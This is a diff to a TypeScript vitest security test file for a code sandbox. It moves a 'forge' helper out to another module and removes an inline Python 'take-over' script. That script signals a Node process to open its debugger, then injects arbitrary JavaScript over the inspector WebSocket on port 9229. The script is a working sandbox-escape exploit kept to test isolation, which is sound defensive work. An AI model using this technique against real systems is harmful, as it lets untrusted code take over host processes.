@@ -10,6 +10,7 @@ import {
 import { beforeAll, describe, expect, onTestFinished, test } from "vitest";
 import { connectHttp, makePlace, Server } from "../e2e/sandbox-client.ts";
 import { ATTEMPT, type Inside, openInside, textOf } from "./sandbox-lab.ts";
+import { forge } from "./take-over.ts";
 
 let server: Server;
 let client: Client;
@@ -27,43 +28,6 @@ async function expectOthersUntouched(): Promise<void> {
   expect(structuredContent).toMatchObject({ value: "42" });
   expect(structuredContent).not.toHaveProperty("sandbox_restarted");
   expect(server.child.exitCode).toBeNull();
-}
-
-/** User code has the guest's own rights: a signal opens its debugger, and then it says whatever it is told to say. */
-const TAKE_OVER = `
-import base64, json, os, signal, socket, struct, sys, time, urllib.request
-os.kill(2, signal.SIGUSR1)
-opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
-for _ in range(1000):
-    try: target = json.load(opener.open("http://127.0.0.1:9229/json/list"))[0]; break
-    except OSError: time.sleep(0.01)
-path = target["webSocketDebuggerUrl"].split("9229", 1)[1]
-line = socket.create_connection(("127.0.0.1", 9229))
-key = base64.b64encode(os.urandom(16)).decode()
-line.sendall(f"GET {path} HTTP/1.1\\r\\nHost: 127.0.0.1:9229\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: {key}\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n".encode())
-line.recv(4096)
-body = json.dumps({"id": 1, "method": "Runtime.evaluate", "params": {"expression": open("forge.js").read().ljust(200)}}).encode()
-line.sendall(b"\\x81\\xfe" + struct.pack(">H", len(body)) + b"\\0\\0\\0\\0" + body)
-line.settimeout(10)
-try: print(line.recv(65536)[-300:])
-except OSError: pass
-
-`;
-
-interface ForgeOptions {
-  readonly afterwards: string;
-  readonly timeoutSeconds: number;
-}
-
-async function forge(
-  inside: Inside,
-  expression: string,
-  { afterwards, timeoutSeconds }: ForgeOptions = { afterwards: "sleep 30", timeoutSeconds: 40 },
-): Promise<string> {
-  await inside.call("file_write", { path: "take-over.py", content: TAKE_OVER });
-  await inside.call("file_write", { path: "forge.js", content: expression });
-  const command = `python3 take-over.py; ${afterwards}`;
-  return textOf(await inside.call("shell_exec", { command, timeout_seconds: timeoutSeconds }));
 }
 
 const say = (text: string): string => `process.stdout.write(${JSON.stringify(text)})`;
